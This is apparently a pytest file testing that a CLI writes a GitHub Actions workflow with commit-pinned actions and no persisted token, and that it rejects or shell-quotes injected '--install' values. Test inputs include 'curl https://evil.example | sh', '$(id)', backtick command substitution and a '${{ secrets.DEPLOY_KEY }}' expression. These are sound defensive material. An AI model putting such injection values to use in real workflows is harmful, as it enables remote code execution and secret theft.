"""`harness ci init --github` (issue 17): the workflow it writes runs only the actions' reviewed
commits, keeps no git token in the checkout, and `--install` can add no step, command or
expression to it."""

from __future__ import annotations

import re
import shlex
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from test_ci_init import _actionlint
from workflow_support import REPO_ROOT, one_line_error

# The actions' release tags and the commits they name (github.com/actions/*/releases).
PINNED = {
    "actions/checkout": ("v4.2.2", "11bd71901bbe5b1630ceea73d27597364c9af683"),
    "actions/setup-python": ("v5.3.0", "0b93645e9fea7318ecaed2b359559ac225c90a2b"),
    "actions/cache": ("v4.2.0", "1bd1e32a3bdc45362d1e726936510720a7c30a8d"),
    "actions/upload-artifact": ("v4.4.3", "b4b15b8c7c6ac21ea08fcf65892d2ee8c75cf6ee"),
}


def _init(plugin: Path, *args: str) -> subprocess.CompletedProcess:
    """The real `python -m harness ci init --github` (main() turns a refusal into one line)."""
    # these plugins declare no SGLang: the release they target is given, as their team would
    given = () if "--from" in args else ("--from", "sglang==0.5.17")
    return subprocess.run([sys.executable, "-m", "harness", "ci", "init", "--github", "--plugin", str(plugin), *given, *args],
                          capture_output=True, text=True, cwd=plugin, timeout=120, check=False,
                          env={"PATH": "/usr/bin:/bin", "PYTHONPATH": str(REPO_ROOT), "COLUMNS": "200"})


def _workflow(plugin: Path) -> tuple[str, dict]:
    text = (plugin / ".github/workflows/sglang-upgrade.yml").read_text()
    return text, yaml.safe_load(text)


def test_actions_are_pinned_by_commit_and_the_checkout_keeps_no_token(tmp_path):
    assert _init(tmp_path, "--install", "harness-tool==0.1").returncode == 0
    text, workflow = _workflow(tmp_path)
    steps = workflow["jobs"]["upgrade"]["steps"]
    used = {s["uses"].partition("@")[0]: s["uses"].partition("@")[2] for s in steps if "uses" in s}
    assert used == {action: sha for action, (_, sha) in PINNED.items()}
    for action, (tag, sha) in PINNED.items():  # the tag a person reads, next to the commit that runs
        assert re.search(rf"uses: {re.escape(action)}@{sha} # {re.escape(tag)}$", text, re.MULTILINE), action
    checkout = next(s for s in steps if s.get("uses", "").startswith("actions/checkout@"))
    assert checkout["with"]["persist-credentials"] is False
    # nothing later pushes with git: the one step that needs a token gets it explicitly
    runs = "\n".join(s.get("run", "") for s in steps)
    assert "git push" not in runs
    assert [s["name"] for s in steps if "GH_TOKEN" in s.get("env", {})] == ["Open or update the upgrade issue"]
    assert _actionlint(tmp_path / ".github/workflows/sglang-upgrade.yml") == []


@pytest.mark.parametrize("install", [
    "harness-tool\n      - run: curl https://evil.example | sh",  # a newline would add a step
    "harness-tool\r- run: id",
    "harness-tool\x1b[2J",
    "harness-tool ${{ secrets.DEPLOY_KEY }}",  # an expression GitHub would expand before the shell runs
    "'unbalanced",
    "   ",
    "harness[all @ git+https://git.example/org/harness@v0.1",  # a direct reference pip would refuse
    "harness @",
    # PyPI's `harness` is another project; a local path or file: URL does not exist in the job
    "harness", "harness==0.1", "harness[all]", "harness @ ./local/path", "harness @ git+file://localhost/srv/harness@abc123",
])
def test_install_that_could_change_the_workflow_is_refused(tmp_path, install):
    one_line_error(_init(tmp_path, "--install", install), "--install")
    assert not (tmp_path / ".github").exists()


@pytest.mark.parametrize("install,left", [
    ("harness @ git+https://github.com/OWNER/harness@COMMIT", "placeholders OWNER and COMMIT"),  # the README's line, pasted
    ("--no-deps 'harness[all] @ git+https://github.com/acme/harness@COMMIT'", "placeholder COMMIT"),
    ("git+https://github.com/OWNER/harness@v0.1", "placeholder OWNER"),  # a bare URL, not a requirement
    ("harness@git+URL@COMMIT", "placeholder COMMIT"),  # docs/commands/ci-init.md's form
])
def test_install_still_holding_the_docs_placeholders_is_refused(tmp_path, install, left):
    """Written into the workflow, the README's placeholders would fail pip in every scheduled job."""
    one_line_error(_init(tmp_path, "--install", install), f"still holds the README's {left}:")
    assert not (tmp_path / ".github").exists()


@pytest.mark.parametrize("install,argv", [
    ("harness-tool; curl https://evil.example | sh", ["harness-tool;", "curl", "https://evil.example", "|", "sh"]),
    ("$(id >&2)", ["$(id", ">&2)"]),
    ("`id`", ["`id`"]),
    ("harness-tool: \"x\" # not a comment", ["harness-tool:", "x", "#", "not", "a", "comment"]),
    # the README's form: a PEP 508 direct reference is one argument to pip, spaces and all
    ("harness[llm] @ git+https://git.example/org/harness@v0.1", ["harness[llm] @ git+https://git.example/org/harness@v0.1"]),
    ("--no-deps 'harness @ git+https://git.example/org/harness@v0.1'", ["--no-deps", "harness @ git+https://git.example/org/harness@v0.1"]),
    ("harness[all] @git+https://git.example/org/harness@v0.1", ["harness[all] @ git+https://git.example/org/harness@v0.1"]),
])
def test_install_is_pip_arguments_not_shell_or_yaml(tmp_path, install, argv):
    """Odd but one-line `--install` values reach pip as the arguments they are: each is quoted
    for the shell, and the whole line for YAML."""
    assert _init(tmp_path, "--install", install, "--force").returncode == 0
    _, workflow = _workflow(tmp_path)
    step = next(s for s in workflow["jobs"]["upgrade"]["steps"] if s.get("name") == "Install harness")
    assert step["run"] == f"python -m pip install {shlex.join(argv)}"
    assert shlex.split(step["run"])[4:] == argv
    assert len(workflow["jobs"]["upgrade"]["steps"]) == 7
    assert _actionlint(tmp_path / ".github/workflows/sglang-upgrade.yml") == []
